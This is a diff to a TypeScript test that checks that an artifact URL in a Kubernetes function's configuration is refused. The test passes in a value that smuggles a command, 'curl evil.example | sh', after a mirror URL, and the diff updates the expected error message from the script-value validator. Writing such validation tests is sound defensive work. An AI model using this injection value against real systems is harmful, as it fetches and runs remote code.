@@ -106,7 +106,9 @@ test('an artifact URL that is not a plain URL is refused with an error naming th
   const r = runOn(resourceList([md], functionConfig({ artifacts: { kubernetes: "https://mirror.example/k8s'; curl evil.example | sh; '" } })));
   assert.notEqual(r.exitCode, 0);
   const error = r.results.find((x: any) => x.severity === 'error');
-  assert.match(error.message, /spec\.artifacts\.kubernetes must be a plain http\(s\):\/\/ or file:\/\/\/ URL/);
+  // Refused by the choke point for script values (scriptValues.ts) before the profile's own check runs.
+  assert.match(error.message, /spec\.artifacts\.kubernetes may only contain letters, digits/);
+  assert.equal(error.field?.path, 'spec.artifacts.kubernetes');
   assert.ok(!r.items.some((i: any) => i.kind === 'Secret' && i.metadata.name.startsWith('ubuntu-')));
 });
 
